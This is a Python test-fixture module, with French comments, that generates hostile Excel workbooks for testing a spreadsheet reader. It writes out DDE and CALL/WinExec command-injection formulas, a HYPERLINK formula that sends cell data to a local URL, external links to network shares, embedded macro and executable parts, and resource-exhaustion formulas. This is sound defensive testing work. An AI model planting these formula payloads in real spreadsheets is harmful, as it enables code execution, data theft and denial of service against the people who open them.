"""Traps of the formulas and links: calls out, macros, DDE, shared formulas without end."""

from __future__ import annotations

from collections.abc import Callable

from tools.hostiles.modele import ACTIONS, TEMOIN, Piege, cas

_TEMOIN = (ACTIONS, "Q6", TEMOIN)
_BOOK = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _formule(texte: str, valeur: object = "x", *, cellule: str = "Q6") -> Callable[[], bytes]:
    return lambda: Piege().formule(ACTIONS, cellule, texte, valeur).octets()


def _lien(part: str, target: str | None = None) -> Callable[[], bytes]:
    def make() -> bytes:
        piege = Piege().temoin().poser("xl/externalLinks/externalLink1.xml", part)
        if target is not None:
            piege.poser(
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="rId1" Type="{_REL}/externalLinkPath" '
                f'Target="{target}" TargetMode="External"/></Relationships>',
            )
        return piege.relation("externalLink", "externalLinks/externalLink1.xml").octets()

    return make


def _partagee(reference: str, count: int = 0) -> Callable[[], bytes]:
    cells = "".join(
        f'<row r="{n}"><c r="A{n}"><f t="shared" si="7"/><v>1</v></c></row>'
        for n in range(901, 901 + count)
    )
    first = (
        f'<row r="900"><c r="A900"><f t="shared" ref="{reference}" si="7">B900+1</f>'
        "<v>1</v></c></row>"
    )
    return lambda: Piege().temoin().ligne("Listes", first + cells).comprime()


def _partie(name: str, content: bytes, kind: str = "") -> Callable[[], bytes]:
    def make() -> bytes:
        piege = Piege().temoin().poser(name, content)
        if kind:
            piege.relation(kind, "/" + name)
        return piege.octets()

    return make


def _noms(count: int) -> bytes:
    names = "".join(f'<definedName name="n{n}">$A$1</definedName>' for n in range(count))
    piege = Piege().temoin()
    if b"</definedNames>" in piege.membres["xl/workbook.xml"]:
        return piege.texte(
            "xl/workbook.xml", "</definedNames>", names + "</definedNames>"
        ).comprime()
    defined = f"</sheets><definedNames>{names}</definedNames>"
    return piege.texte("xl/workbook.xml", "</sheets>", defined).comprime()


_F = "formule"
cas(_F, "dde", "un appel DDE dans une cellule", _formule("cmd|'/c calc.exe'!A0"))
cas(
    _F,
    "webservice",
    "une requête à un site",
    _formule('_xlfn.WEBSERVICE("http://127.0.0.1:18999/")'),
)
cas(_F, "rtd", "un serveur de données", _formule('RTD("piege.serveur",,"x")'))
cas(_F, "image", "une image sur un site", _formule('_xlfn.IMAGE("http://127.0.0.1:18999/a.png")'))
cas(_F, "call", "un appel de bibliothèque", _formule('CALL("kernel32","WinExec","JC","calc")'))
cas(_F, "hyperlien", "un lien qui emporte la donnée",
    _formule('HYPERLINK("http://127.0.0.1:18999/?"&A6,"Cliquez ici")'))  # fmt: skip
cas(_F, "externe", "une valeur d'un autre fichier", _formule("[1]Feuil1!A1"))
cas(_F, "circulaire", "une formule qui se lit elle-même", _formule("Q6"))
cas(_F, "longue", "une formule de 500 000 caractères", _formule("1" + "+1" * 250_000, 1.0))
cas(_F, "geante", "une formule de 2 Mio", _formule("1" + "+1" * (1 << 20), 1.0))
cas(_F, "parentheses", "cinq mille parenthèses", _formule("(" * 5000 + "1" + ")" * 5000, 1.0))
cas(_F, "jamais-calculee", "une saisie jamais calculée", _formule("A6&B6", None))
cas(_F, "erreur-nom", "une fonction inconnue", _formule("PIEGE()", "#NAME?"))
cas(_F, "erreur-debord", "une erreur récente d'Excel", _formule("A6:A9", "#SPILL!"))
cas(_F, "taux-truque", "un taux calculé remplacé par une formule menteuse",
    lambda: Piege().formule("Indicateurs", "L6", "1", 1.0).octets())  # fmt: skip
cas(_F, "partagee-feuille", "une formule partagée sur toute la feuille",
    _partagee("A1:XFD1048576", 3), temoin=_TEMOIN)  # fmt: skip
cas(_F, "partagee-orpheline", "une formule partagée sans modèle",
    lambda: Piege().temoin().ligne("Listes", '<row r="900"><c r="A900"><f t="shared" si="99"/>'
                                   "<v>1</v></c></row>").octets(), temoin=_TEMOIN)  # fmt: skip
cas(_F, "partagee-20000", "une formule partagée par vingt mille cellules",
    _partagee("A900:A20900", 20_000), temoin=_TEMOIN)  # fmt: skip
cas(_F, "matrice-feuille", "une formule matricielle sur toute la feuille",
    lambda: Piege().temoin().ligne("Listes", '<row r="900"><c r="A900"><f t="array" '
                                   'ref="A1:XFD1048576">1</f><v>1</v></c></row>').octets(),
    temoin=_TEMOIN)  # fmt: skip
cas(_F, "noms", "cent vingt mille noms définis", lambda: _noms(120_000))
cas(_F, "nom-externe", "un nom défini qui appelle un programme",
    lambda: Piege().temoin().texte(
        "xl/workbook.xml", "<definedName ", "<definedName name=\"piege\">cmd|'/c calc'!A0"
        "</definedName><definedName ").octets(), temoin=_TEMOIN)  # fmt: skip
cas(_F, "lien-site", "un lien vers un site",
    _lien(f'<externalLink {_BOOK}><externalBook xmlns:r="{_REL}" r:id="rId1"/></externalLink>',
          "http://127.0.0.1:18999/x.xlsx"))  # fmt: skip
cas(_F, "lien-partage", "un lien vers un partage réseau",
    _lien(f'<externalLink {_BOOK}><externalBook xmlns:r="{_REL}" r:id="rId1"/></externalLink>',
          "file:///\\\\127.0.0.1\\partage\\x.xlsx"))  # fmt: skip
cas(_F, "lien-dde", "un lien DDE", _lien(
    f'<externalLink {_BOOK}><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems/></ddeLink>'
    "</externalLink>"))  # fmt: skip
cas(_F, "lien-casse", "un lien illisible", _lien("<externalLink"), temoin=_TEMOIN)
cas(_F, "vba", "des macros", _partie("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0", "vbaProject"))
cas(_F, "vba-cachees", "des macros sans relation", _partie("xl/piege/vbaProject.bin", b"x"))
cas(_F, "macro-excel4", "une feuille de macros Excel 4", _partie(
    "xl/macrosheets/sheet1.xml", b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/'
    b'excel/2006/main"/>', "xlMacrosheet"))  # fmt: skip
cas(_F, "connexion", "une connexion à une base", _partie(
    "xl/connections.xml", f'<connections {_BOOK}><connection id="1" name="x" type="5"><webPr '
    'url="http://127.0.0.1:18999/"/></connection></connections>'.encode(), "connections"),
    temoin=_TEMOIN)  # fmt: skip
cas(_F, "objet", "un programme incorporé", _partie(
    "xl/embeddings/oleObject1.bin", b"MZ" + b"\0" * 500, "oleObject"), temoin=_TEMOIN)  # fmt: skip
cas(_F, "activex", "un contrôle ActiveX", _partie(
    "xl/activeX/activeX1.xml", b"<ax:ocx xmlns:ax='urn:x'/>"), temoin=_TEMOIN)  # fmt: skip
